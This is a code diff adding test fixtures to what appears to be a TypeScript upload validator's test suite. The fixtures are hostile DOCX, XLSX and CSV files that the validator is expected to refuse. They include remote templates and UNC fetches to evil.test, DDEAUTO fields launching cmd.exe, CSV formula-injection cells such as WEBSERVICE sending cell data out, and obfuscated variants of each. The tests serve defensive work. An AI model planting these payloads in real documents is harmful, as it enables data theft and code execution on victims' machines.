@@ -134,7 +134,35 @@ const archives = refused('archive', [
 const rels = (target: string, kind: string) =>
   `<Relationships><Relationship Id="r" Type="http://a/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;
 
+const template = rels('https://evil.test/a.dotm', 'attachedTemplate');
+const settingsRels = (data: Buffer | string) => docx([{ name: 'word/_rels/settings.xml.rels', data }]);
+const letter = (inside: string) => docx([{ name: 'word/header1.xml', data: `<w:hdr xmlns:w="w">${inside}</w:hdr>` }]);
+const instruction = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
+const sheetOf = (formula: string) =>
+  xlsx([{ name: 'xl/worksheets/sheet1.xml', data: `<worksheet><c><f>${formula}</f></c></worksheet>` }]);
+
 const macros = refused('macros', [
+  ['a template whose mode is spelled otherwise', 'a.docx', settingsRels(template.replace('"External', '"&#69;xternal'))],
+  ['a template with an attribute that looks like a link', 'a.docx', settingsRels(template.replace(' Id=', ' Foo="/hyperlink" Id='))],
+  ['a template whose mode is of another name space', 'a.docx', settingsRels(template.replace(' Id=', ' x:TargetMode="Internal" Id='))],
+  ['a template with a mode that no program knows', 'a.docx', settingsRels(template.replace('"External"', '"Externally"'))],
+  ['a template in single quotes', 'a.docx', settingsRels(template.replaceAll('"', "'"))],
+  ['a template in an element of a prefix', 'a.docx', settingsRels(template.replaceAll('Relationship', 'p:Relationship'))],
+  ['a template without a mode', 'a.docx', settingsRels(template.replace(' TargetMode="External"', ''))],
+  ['a picture from elsewhere', 'a.docx', settingsRels(rels('https://evil.test/a.png', 'image'))],
+  ['a link to a share', 'a.docx', settingsRels(rels('\\\\evil.test\\a', 'hyperlink'))],
+  ['a link to a program', 'a.docx', settingsRels(rels('file:///c:/windows/system32/cmd.exe', 'hyperlink'))],
+  ['a page inside a letter', 'a.docx', settingsRels('<Relationships><Relationship Type="http://a/aFChunk" Target="a.mht"/></Relationships>')],
+  ['a type of macros spelled otherwise', 'a.xlsx', xlsx([], '<Types><Override ContentType="application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"/></Types>')],
+  ['a field that starts a program', 'a.docx', letter(instruction('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'))],
+  ['a field cut into runs', 'a.docx', letter(`${instruction('D')}\n${instruction('D')}\n${instruction('E cmd')}`)],
+  ['a field spelled otherwise', 'a.docx', letter(instruction('&#68;DE cmd'))],
+  ['a field behind another', 'a.docx', letter(`${instruction('PAGE')}<w:fldChar/>${instruction(' "DDEAUTO" cmd')}`)],
+  ['a simple field', 'a.docx', letter('<w:fldSimple w:instr=" DDE cmd"/>')],
+  ['a field that fetches', 'a.docx', letter(instruction('INCLUDETEXT "\\\\evil.test\\a"'))],
+  ['a sheet that starts a program', 'a.xlsx', xlsx([{ name: 'xl/links/link1.xml', data: '<x:ddeLink xmlns:x="x" ddeService="cmd" ddeTopic="/c calc"/>' }])],
+  ['a sheet of links', 'a.xlsx', xlsx([{ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink/>' }])],
+  ['a sheet that fetches when it is opened', 'a.xlsx', xlsx([{ name: 'xl/connections.xml', data: '<connections/>' }])],
   ['a sheet with macros', 'a.xlsx', xlsx([{ name: 'xl/vbaProject.bin', data: 'x' }])],
   ['a letter with macros', 'a.docx', docx([{ name: 'word/vbaProject.bin', data: 'x' }])],
   ['macros in other letters', 'a.xlsx', xlsx([{ name: 'XL/VBAPROJECT.BIN', data: 'x' }])],
@@ -148,6 +176,7 @@ const macros = refused('macros', [
 ]);
 
 const bombs = refused('too_big_inside', [
+  ['a template behind a megabyte of blanks', 'a.docx', settingsRels(`<Relationships>${' '.repeat(megabyte)}${template}</Relationships>`)],
   ['an XLSX bomb', 'a.xlsx', xlsx([{ name: 'xl/sheet.xml', data: Buffer.alloc(12 * megabyte), repeat: 20 }])],
   ['a DOCX bomb', 'a.docx', docx([{ name: 'word/media/a.xml', data: Buffer.alloc(16 * megabyte), repeat: 12 }])],
   ['entries without end', 'a.xlsx', xlsx([{ name: 'xl/a.xml', data: 'a', repeat: 6000 }])],
@@ -157,6 +186,12 @@ const bombs = refused('too_big_inside', [
 const action = (name: string) => `8 0 obj<</S/${name}/JS(app.alert(1))/F(cmd.exe)>>endobj`;
 
 const damaged = refused('broken', [
+  ['a template in two bytes a letter', 'a.docx', settingsRels(Buffer.from(`\ufeff${template}`, 'utf16le'))],
+  ['a template in another encoding', 'a.docx', settingsRels(`<?xml version="1.0" ${' '.repeat(600)}encoding="utf-7"?>${template}`)],
+  ['a template by an entity', 'a.docx', settingsRels(`<!DOCTYPE a [<!ENTITY e "External">]>${template.replace('External', '&e;')}`)],
+  ['relations that do not end', 'a.docx', settingsRels('<Relationships><Relationship')],
+  ['a part given twice', 'a.docx', docx([{ name: 'word/_rels/settings.xml.rels', data: '<a/>', repeat: 2 }])],
+  ['a letter of two bytes a letter', 'a.docx', docx([{ name: 'word/header1.xml', data: Buffer.from('\ufeff<a/>', 'utf16le') }])],
   ['half a PDF', 'a.pdf', pdf().subarray(0, 120)],
   ['a PDF without its table', 'a.pdf', latin('%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF')],
   ['only a PDF’s first line', 'a.pdf', latin('%PDF-1.7\n')],
@@ -246,6 +281,25 @@ const others: HostileFile[] = [
   ]),
   ...refused('too_large', [['a PDF of 26 MB', 'a.pdf', pdf('', { head: `%PDF-1.7\n%${'x'.repeat(26 * megabyte)}\n` })]]),
   ...refused('formula_commands', [
+    ...[
+      '=WEBSERVICE("http://evil.test/"&A1)',
+      ' = webservice ("http://evil.test/"&A1)',
+      '+IF(A1;WEBSERVICE("http://evil.test/"))',
+      '"=HYPERLINK(""http://evil.test/""&A1)"',
+      '" =IMPORTXML(""http://evil.test/"")"',
+      "'=HYPERLINK(1)",
+      '@IMPORTDATA("http://evil.test")',
+      '-2+_xlfn.WEBSERVICE("http://evil.test")',
+      '\u00a0=WEBSERVICE("a")',
+      '\uff1dWEBSERVICE("a")',
+      "='file:///etc/passwd'#$a.A1",
+      "='\\\\evil.test\\share\\[a.xls]a'!A1",
+      "=1+cmd|'/C calc'!A0",
+      '"=cmd|\' /C calc\'!A0"',
+      '"a\n=WEBSERVICE(1)',
+    ].map((cell) => [`a table with ${JSON.stringify(cell)}`, 'a.csv', Buffer.from(`a,b\n1,${cell}\n2,3\n`)] as const),
+    ['a sheet that sends', 'a.xlsx', sheetOf('_xlfn.WEB&#83;ERVICE(&quot;http://evil.test/&quot;&amp;A1)')],
+    ['a sheet that starts a program by a formula', 'a.xlsx', sheetOf("cmd|'/C calc'!A0")],
     ['a table that starts a program', 'a.csv', latin("a,b\n=cmd|' /C calc'!A0,1\n2,3")],
     ['a table that starts one quietly', 'a.csv', latin("a,b\n@SUM|'x'!A1,1\n2,3")],
     ['a table that starts one in quotes', 'a.csv', latin('a;b\n"+MSEXCEL|\'\\..\\cmd.exe\'!A";1\n2;3')],
@@ -283,6 +337,9 @@ const names = kept([
   ['PDF of words that are no objects', 'a.pdf', pdf('stream\n'.repeat(60_000)), 'a.pdf', pdfType],
   ['PNG called PDF', 'a.pdf', png({ width: 8, height: 8 }), 'a.png', 'image/png'],
   ['PDF called PNG', 'a.png', pdf(), 'a.pdf', pdfType],
+  ['a letter with links', 'a.docx', docx([{ name: 'word/_rels/document.xml.rels', data: rels('https://carrier.example/?a=1&amp;b=2', 'hyperlink') }, { name: 'word/header1.xml', data: `<w:hdr xmlns:w="w">${instruction('HYPERLINK "https://a.example/link/dde"')}${instruction('PAGE')}</w:hdr>` }]), 'a.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+  ['a sheet that reckons', 'a.xlsx', sheetOf('SUM(A1:A9)&amp;&quot; | ok&quot;'), 'a.xlsx', sheet],
+  ['a table of numbers and notes', 'a.csv', Buffer.from('n,note\n-5,- see http://a.example (call us)\n+1 214 555,=A1+B1\n-1,"it said ""x"" twice"\n'), 'a.csv', 'text/csv'],
   ['a sheet called HTML', 'a.html', xlsx(), 'a.xlsx', sheet],
 ]);
 
